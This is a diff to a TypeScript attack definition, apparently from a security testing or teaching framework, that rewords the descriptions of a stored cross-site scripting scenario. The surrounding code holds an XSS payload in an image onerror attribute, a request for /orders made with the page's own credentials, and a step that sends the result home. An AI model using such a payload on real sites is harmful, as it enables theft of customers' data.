@@ -7,7 +7,7 @@ const attack: AttackUnit = {
   group: 'script in the page',
   label: 'Script acts from the page',
   also: ['XSS', 'session riding'],
-  says: 'A review with script in it is shown on the product page. The script steals nothing: it requests the orders with the page’s own credentials and sends the answer home.',
+  says: 'The product page shows a review that contains script. The script steals no credential. It requests the orders with the page’s own credentials and sends the answer home.',
   grants: ['markup in a page of the shop'],
   sources: [document('owasp-xss'), rfc(10017, '5.1.4')],
   scene: ['log-in', 'read-orders'],
@@ -15,7 +15,7 @@ const attack: AttackUnit = {
     const page = await hands.inject('<img src="x" onerror="act()">');
     if (!page) return;
     hands.note(
-      'The injected script replaces fetch with its own function. Everything that the page’s code sends and gets goes through it.',
+      'The injected script replaces fetch with its own function. It sees everything that the page’s code sends and gets.',
     );
     const { status, content } = await hands.mode.script.request(page, 'GET', '/orders');
     if (status === 200) await page.sendHome(content);
